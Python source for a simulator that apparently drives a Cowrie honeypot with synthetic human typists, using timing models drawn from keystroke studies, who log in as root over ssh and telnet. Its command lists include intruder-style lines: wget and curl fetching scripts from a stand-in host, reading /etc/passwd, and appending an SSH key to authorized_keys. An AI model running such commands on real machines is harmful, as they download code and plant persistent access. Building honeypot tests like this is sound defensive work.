"""People at a terminal: keys typed one by one into the real ``ssh`` and ``telnet``.

How fast and how evenly is drawn from Dhakal, Feit, Kristensson and Oulasvirta, "Observations on
Typing from 136 Million Keystrokes" (CHI 2018): of 168,000 people, the mean time between two keys
was 239 ms (standard deviation among people 112 ms), from 20 to more than 120 words a minute; 6.3 %
of the keys corrected something. Three kinds of people are made:

- ``Typist``: times between keys are log-normal, shorter for a letter that is repeated.
- ``TwoHands``: times between keys depend on the hands that press them, as in the study's table 3,
  differ by pair of keys from person to person, and are log-logistic, which fits recorded typing
  best (González, Calot, Ierache and Hasperué, "On the shape of timings distributions in free-text
  keystroke dynamics profiles", Heliyon 2021).
- ``Recorded``: no model at all, but times that a real person left (``real_keys``).
"""

from __future__ import annotations

import asyncio
import contextlib
import fcntl
import math
import os
import pty
import random
import signal
import struct
import subprocess
import termios
import time
from collections.abc import Iterator, Sequence
from itertools import pairwise
from pathlib import Path
from typing import Any

from attackers import HOST, Ports
from attrs import define, field, frozen
from links import LINKS, link
from real_keys import Hand

UP, BACKSPACE, TAB, CTRL_C, CTRL_D, CTRL_U = "\x1b[A", "\x7f", "\t", "\x03", "\x04", "\x15"
NEIGHBOURS = {
    "a": "sq",
    "s": "ad",
    "d": "sf",
    "e": "wr",
    "r": "et",
    "t": "ry",
    "i": "uo",
    "o": "ip",
    "n": "bm",
    "m": "n,",
    "l": "k;",
    "c": "xv",
    "p": "o[",
    "u": "yi",
    "w": "qe",
}
WINDOWS = ["120x30", "211x52", "147x41", "80x24", "190x48", "100x28", "236x61", "133x37"]
PLANS: Sequence[Sequence[str]] = (
    ("ls",),
    ("w", "ls -la", "exit"),
    ("whoami", "id", "uname -a", "pwd", "exit"),
    ("cd /tmp", "ls", "wget http://198.51.100.9/x.sh", "cat x.sh", "rm x.sh"),
    ("cat /etc/passwd", "cat /etc/issue", "free -m", "df -h", "exit"),
    ("ps aux", "top", "netstat -tulpn", "history", "exit"),
    ("uname -a", "nproc", "cat /proc/cpuinfo", "lscpu", "uptime", "last", "logout"),
    ("cd /var/log", "ls -la", "tail auth.log", "cd ..", "ls", "cd", "exit"),
    ("mkdir test", "cd test", "touch a", "ls -l", "cd ..", "rm -rf test", "exit"),
    ("sudo su", "passwd", "exit"),
    ("ping 198.51.100.7", "ifconfig", "ip a", "route", "exit"),
    ("hostname",),
)
LONG = (
    "curl -fsSL http://198.51.100.9/install.sh -o /tmp/install.sh && chmod +x /tmp/install.sh",
    "cat /etc/passwd | grep -v nologin | cut -d: -f1,3,6 | sort | head -n 20",
    "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 me@home' >> ~/.ssh/authorized_keys",
)


COPIES: Sequence[Sequence[str]] = (
    ("uname -a", "id", "w"),
    ("ls", "cat /etc/passwd"),
    ("free -m", "nproc", "exit"),
    ("whoami",),
)
"""What a person types, and a program sends, to the last byte: Cowrie keeps one recording of both,
that of who came first."""
ONE_COMMAND = ("w", "id", "ls", "ps", "top", "uname -a", "ifconfig", "cat /etc/passwd", "help")


@frozen
class Typist:
    """A person."""

    gap: float
    """Mean seconds between two keys."""
    spread: float
    """Their standard deviation / mean."""
    errors: float
    """Of all keys."""
    pause: float
    """Median seconds of thought before a command."""
    pastes: float
    """Of all commands."""

    @classmethod
    def drawn(cls, chance: random.Random, *, pastes: float = 0.0) -> Typist:
        """Return a person as the study has them."""
        mean, deviation = 0.239, 0.112
        sigma = math.sqrt(math.log(1 + (deviation / mean) ** 2))
        gap = min(0.55, max(0.08, chance.lognormvariate(math.log(mean) - sigma**2 / 2, sigma)))
        return cls(
            gap,
            chance.uniform(0.3, 0.65),
            chance.uniform(0.0, 0.06),
            chance.uniform(0.7, 2.5),
            pastes,
        )

    @classmethod
    def fast(cls, chance: random.Random) -> Typist:
        """Return one of those at the fast end: 100 to 150 words a minute."""
        return cls(chance.uniform(0.08, 0.12), chance.uniform(0.3, 0.6), 0.02, 0.8, 0.0)

    @classmethod
    def hunting(cls, chance: random.Random) -> Typist:
        """Return one of those at the slow end, who look for each key: 15 to 30 words a minute."""
        return cls(chance.uniform(0.4, 0.8), chance.uniform(0.4, 0.8), 0.06, 2.5, 0.0)

    def between(self, chance: random.Random, before: str, key: str) -> float:
        """Return the seconds from one key to the next."""
        sigma = math.sqrt(math.log(1 + self.spread**2))
        mean = self.gap * (0.75 if before == key else 1.0)
        return chance.lognormvariate(math.log(mean) - sigma**2 / 2, sigma)

    def thought(self, chance: random.Random) -> float:
        """Return the seconds before a command."""
        return min(12.0, chance.lognormvariate(math.log(self.pause), 0.7))


LEFT = frozenset("qwertasdfgzxcvb12345`~!@#$%")
_SAME_LEFT, _SAME_RIGHT, _OTHER_HAND, _SAME_KEY = 215.23, 203.60, 198.26, 176.36
_ALL_KEYS = 238.66
"""Milliseconds between keys: table 3 of the study (its figures by hand leave out first letters of
words, which are slower; here they take the mean of all)."""


@define(eq=False)
class TwoHands:
    """A person whose times depend on the pair of keys, and on who it is."""

    gap: float
    errors: float
    pause: float
    shape: float
    """Of the log-logistic law; 4 is uneven (a spread of 0.5), 9 is even (0.2)."""
    pastes: float = 0.0
    _pairs: dict[str, float] = field(factory=dict, init=False)
    """How this person's time differs for a pair of keys."""

    @classmethod
    def drawn(cls, chance: random.Random) -> TwoHands:
        """Return a person as the study has them."""
        like = Typist.drawn(chance)
        errors = min(0.15, chance.gammavariate(2, 0.025))
        return cls(like.gap, errors, like.pause, chance.uniform(4, 9))

    def between(self, chance: random.Random, before: str, key: str) -> float:
        """Return the seconds from one key to the next."""
        hands = (before.lower() in LEFT, key.lower() in LEFT)
        if before == " ":
            mean = _ALL_KEYS
        elif before == key:
            mean = _SAME_KEY
        elif hands[0] != hands[1]:
            mean = _OTHER_HAND
        else:
            mean = _SAME_LEFT if hands[0] else _SAME_RIGHT
        own = self._pairs.setdefault(before + key, chance.lognormvariate(0, 0.25))
        mean = self.gap * mean / _ALL_KEYS * own
        alpha = mean * math.sin(math.pi / self.shape) * self.shape / math.pi
        u = chance.uniform(0.001, 0.999)
        return float(alpha * (u / (1 - u)) ** (1 / self.shape))

    def thought(self, chance: random.Random) -> float:
        """Return the seconds before a command."""
        return min(12.0, chance.lognormvariate(math.log(self.pause), 0.7))


@define(eq=False)
class Recorded:
    """A person whose keys come when those of a real one came."""

    hand: Hand
    keys: Iterator[tuple[float, bool]]
    errors: float = 0.0
    pastes: float = 0.0
    gap: float = 0.15

    @classmethod
    def drawn(cls, chance: random.Random, hands: Sequence[Hand]) -> Recorded:
        """Return one of those who were recorded, from some key on."""
        hand = chance.choice(hands)
        return cls(hand, hand.from_somewhere(chance))

    def between(self, _chance: random.Random, _before: str, _key: str) -> float:
        """Return the seconds from one key to the next."""
        return next(gap for gap, erases in self.keys if not erases)

    def thought(self, chance: random.Random) -> float:
        """Return the seconds before a command, which no recording of keys tells."""
        return min(12.0, chance.lognormvariate(math.log(1.5), 0.7))

    async def type(self, terminal: Terminal, text: str) -> None:
        """Type a text; what the real person took back, this one takes back and types again."""
        at = 0
        while at < len(text):
            gap, erases = next(self.keys)
            await terminal.rest(gap)
            if not erases:
                terminal.send(text[at])
                at += 1
            elif at:
                terminal.send(BACKSPACE)
                at -= 1


Person = Typist | TwoHands | Recorded


@define(eq=False)
class Terminal:
    """A program on a terminal of its own."""

    command: Sequence[str]
    window: str
    late: list[float] = field(factory=list)
    """By how many seconds each key came late."""
    seen: bytes = field(default=b"", init=False)
    _master: int = field(init=False)
    _process: subprocess.Popen[bytes] = field(init=False)
    _news: asyncio.Event = field(factory=asyncio.Event, init=False)
    _closed: bool = field(default=False, init=False)

    def __attrs_post_init__(self) -> None:
        self._master, slave = pty.openpty()
        self.resize(self.window)
        self._process = subprocess.Popen(
            self.command, stdin=slave, stdout=slave, stderr=slave, start_new_session=True,
            preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0),  # noqa: PLW1509
        )  # fmt: skip
        os.close(slave)
        os.set_blocking(self._master, False)
        asyncio.get_running_loop().add_reader(self._master, self._read)

    def _read(self) -> None:
        try:
            data = os.read(self._master, 65_536)
        except OSError:
            data = b""
        if not data:
            asyncio.get_running_loop().remove_reader(self._master)
        self.seen = (self.seen + data)[-65_536:]
        self._news.set()

    def resize(self, window: str) -> None:
        """Drag the window."""
        columns, rows = map(int, window.split("x"))
        fcntl.ioctl(self._master, termios.TIOCSWINSZ, struct.pack("HHHH", rows, columns, 0, 0))

    async def until(self, text: bytes, seconds: float = 60) -> None:
        """Wait until the program says something, once."""
        await asyncio.wait_for(self._until(text), seconds)

    async def _until(self, text: bytes) -> None:
        while text not in self.seen:
            self._news.clear()
            await self._news.wait()
        self.seen = self.seen.partition(text)[2]

    def send(self, keys: str) -> None:
        """Press keys at once."""
        with contextlib.suppress(OSError):
            os.write(self._master, keys.encode())

    async def rest(self, seconds: float) -> None:
        """Wait, and note how late that ended."""
        until = time.monotonic() + seconds
        await asyncio.sleep(seconds)
        self.late.append(time.monotonic() - until)

    async def ended(self, seconds: float = 20) -> None:
        """Wait for the program's end."""
        for _ in range(int(seconds * 10)):
            if self._process.poll() is not None:
                break
            await asyncio.sleep(0.1)
        await self.close()

    async def close(self) -> None:
        """Close the window; a program that outlives it is killed."""
        if self._closed:
            return
        self._closed = True
        asyncio.get_running_loop().remove_reader(self._master)
        os.close(self._master)
        for number in (signal.SIGHUP, signal.SIGKILL):
            with contextlib.suppress(ProcessLookupError):
                os.killpg(self._process.pid, number)
            for _ in range(20):  # never in one piece: the link that it waits for is in this thread
                if self._process.poll() is not None:
                    return
                await asyncio.sleep(0.1)


async def type_text(terminal: Terminal, who: Person, chance: random.Random, text: str) -> None:
    """Type a text, with typing errors that are noticed at once or a little later."""
    if isinstance(who, Recorded):
        await who.type(terminal, text)
        return
    before = ""
    at = 0
    while at < len(text):
        key = text[at]
        if before:
            await terminal.rest(who.between(chance, before, key))
        if key in NEIGHBOURS and chance.random() < who.errors:
            terminal.send(chance.choice(NEIGHBOURS[key]))
            more = chance.choice((0, 0, 0, 1)) if at + 1 < len(text) else 0
            for extra in text[at + 1 : at + 1 + more]:
                await terminal.rest(who.between(chance, key, extra))
                terminal.send(extra)
            await terminal.rest(who.gap * chance.uniform(1.5, 4))  # noticed
            for number in range(1 + more):
                if number:
                    await terminal.rest(who.between(chance, BACKSPACE, BACKSPACE))
                terminal.send(BACKSPACE)
            before = BACKSPACE
            continue
        terminal.send(key)
        before = key
        at += 1


async def run_plan(
    terminal: Terminal, who: Person, chance: random.Random, plan: Sequence[str]
) -> None:
    """Give commands, typed or pasted, now and then with Tab, an arrow or Ctrl-C."""
    for number, line in enumerate(plan):
        await terminal.rest(who.thought(chance))
        if chance.random() < who.pastes and line not in {"exit", "logout"}:
            terminal.send(line)
            await terminal.rest(chance.uniform(0.15, 1.2))
        elif number and line == plan[number - 1]:
            terminal.send(UP)
            await terminal.rest(who.gap * 2)
        elif " " in line and chance.random() < 0.15:
            cut = line.index(" ") + 2
            await type_text(terminal, who, chance, line[:cut])
            await terminal.rest(who.gap)
            terminal.send(TAB)
            await terminal.rest(who.gap * chance.uniform(1, 3))
            terminal.send(CTRL_U)
            await terminal.rest(who.gap * 2)
            await type_text(terminal, who, chance, line)
        else:
            await type_text(terminal, who, chance, line)
        await terminal.rest(who.gap * chance.uniform(0.6, 1.6))
        terminal.send("\r")
        if line in {"top", "passwd", "sudo su"} or line.startswith("ping"):
            await terminal.rest(chance.uniform(1.5, 3))
            terminal.send(CTRL_C)


async def copy(terminal: Terminal, who: Person, chance: random.Random, plan: Sequence[str]) -> None:
    """Type lines without a mistake, and nothing else."""
    for line in plan:
        await terminal.rest(who.thought(chance))
        for before, key in zip(" " + line, f"{line}\r", strict=True):
            terminal.send(key)
            await terminal.rest(who.between(chance, before, key))


RUSSIAN = str.maketrans("qwertyuiop[]asdfghjkl;'zxcvbnm,.", "йцукенгшщзхъфывапролджэячсмитьбю")
"""What a key gives on a keyboard that is set to Russian."""


async def mistake_layout(terminal: Terminal, who: Person, chance: random.Random, line: str) -> None:
    """Type a command with the keyboard set to Russian, look up, and take it back."""
    await terminal.rest(who.thought(chance))
    typed = line.translate(RUSSIAN)
    await type_text(terminal, who, chance, typed)
    await terminal.rest(who.thought(chance))
    for _ in typed:
        terminal.send(BACKSPACE)
        await terminal.rest(who.between(chance, BACKSPACE, BACKSPACE))


async def paste_lines(
    terminal: Terminal, who: Person, chance: random.Random, plan: Sequence[str]
) -> None:
    """Paste lines with their ends, out of a document, and type the last one."""
    for line in plan[:-1]:
        await terminal.rest(who.thought(chance) * 2)
        terminal.send(f"{line}\r")
    await terminal.rest(who.thought(chance))
    await type_text(terminal, who, chance, plan[-1])
    await terminal.rest(who.gap)
    terminal.send("\r")


def _somebody(kind: str, chance: random.Random, hands: Sequence[Hand]) -> Person:
    if kind.startswith("recorded"):
        return Recorded.drawn(chance, hands)
    if kind in {"two-hands", "ahead", "one-command", "stalls", "jitter"}:
        return TwoHands.drawn(chance)
    if kind in {"fast", "ticks"}:
        return Typist.fast(chance)
    if kind == "hunting":
        return Typist.hunting(chance)
    return Typist.drawn(chance, pastes={"pasted": 0.9, "mixed": 0.4}.get(kind, 0.0))


async def _stay(
    terminal: Terminal, who: Person, chance: random.Random, manner: str, plan: Sequence[str]
) -> None:
    """Do, from the login on, what there is to do, and leave."""
    if manner == "ahead":
        await terminal.rest(0.05)
        await type_text(terminal, who, chance, plan[0])
        await terminal.rest(who.gap)
        terminal.send("\r")
        plan = plan[1:]
    await terminal.until(b"# ")
    if manner == "resized":
        await terminal.rest(1.0)
        terminal.resize(chance.choice(WINDOWS))
    if manner == "layout":
        await mistake_layout(terminal, who, chance, plan[0])
    if manner == "copying":
        await copy(terminal, who, chance, plan)
    elif manner == "pasted-lines":
        await paste_lines(terminal, who, chance, plan)
    else:
        await run_plan(terminal, who, chance, plan)
    if plan and plan[-1] in {"exit", "logout"}:
        await terminal.ended()
        return
    await terminal.rest(who.thought(chance))
    if manner != "copying" and chance.random() < 0.5:
        terminal.send(CTRL_D)
        await terminal.ended()


async def unseen(
    ports: Ports, password: str, chance: random.Random, plan: Sequence[str]
) -> dict[str, Any]:
    """Let somebody talk Telnet by a program that sends whole lines, as nc does; return who it was.

    There are no keys to be seen.
    """
    who = TwoHands.drawn(chance)
    reader, writer = await asyncio.open_connection(HOST, ports.telnet)
    try:
        for prompt, answer in ((b"login: ", "root"), (b"assword: ", password), (b"# ", "")):
            await asyncio.wait_for(reader.readuntil(prompt), 30)
            for line in (answer,) if answer else plan:
                keys = sum(who.between(chance, *pair) for pair in pairwise(line))
                await asyncio.sleep(who.thought(chance) + keys)
                writer.write(f"{line}\n".encode())
        await asyncio.sleep(who.thought(chance))
    finally:
        writer.close()
    return {"gap": round(who.gap, 3), "lines": len(plan)}


async def person(  # noqa: PLR0913, PLR0917 - who, where and what
    ports: Ports,
    password: str,
    chance: random.Random,
    kind: str,
    plan: Sequence[str],
    folder: Path,
    hands: Sequence[Hand] = (),
) -> tuple[list[float], dict[str, Any]]:
    """Let somebody log in and do something.

    ``kind``: ``typed`` (``Typist``), ``two-hands``, ``recorded``, ``fast``, ``hunting``; ``pasted``
    (nearly everything), ``mixed``, ``pasted-lines`` (with their ends); ``resized``; ``layout`` (the
    first command with the wrong one); ``ahead`` (the first command is begun before there is a
    prompt); ``one-command``; ``copying`` (what a program sends, too); ``stalls``, ``jitter``,
    ``ticks`` (see ``links``); ``telnet``, ``telnet-recorded``, ``telnet-stalls``.

    Returns by how many seconds each key came late, and who it was.
    """
    _, _, rest = kind.rpartition("telnet")
    by_telnet = "telnet" in kind
    manner = rest.lstrip("-") or "typed" if by_telnet else kind
    who = _somebody(manner, chance, hands)
    told: dict[str, Any] = {
        "gap": round(who.gap, 3),
        "errors": round(who.errors, 3),
        "lines": len(plan),
    }
    if isinstance(who, Recorded):
        told = {"recorded": who.hand.person, "lines": len(plan)}
    async with contextlib.AsyncExitStack() as stack:
        port = ports.telnet if by_telnet else ports.ssh
        if manner in LINKS:
            port = await stack.enter_async_context(link(manner, port, chance))
        if by_telnet:
            command = ["telnet", HOST, str(port)]
            dialogue = [(b"login: ", "root"), (b"assword: ", password)]
        else:
            options = [
                *("-o", "StrictHostKeyChecking=no", "-o", f"UserKnownHostsFile={folder / 'known'}"),
                *("-o", "PubkeyAuthentication=no", "-F", "none", "-p", str(port)),
            ]
            command = ["ssh", *options, f"root@{HOST}"]
            dialogue = [(b"assword: ", password)]
        terminal = Terminal(command, chance.choice(WINDOWS))
        stack.push_async_callback(terminal.close)
        for prompt, answer in dialogue:
            await terminal.until(prompt)
            await terminal.rest(who.thought(chance) / 2)
            await type_text(terminal, who, chance, answer)
            await terminal.rest(who.gap)
            terminal.send("\r")
        await _stay(terminal, who, chance, manner, plan)
    return terminal.late, told
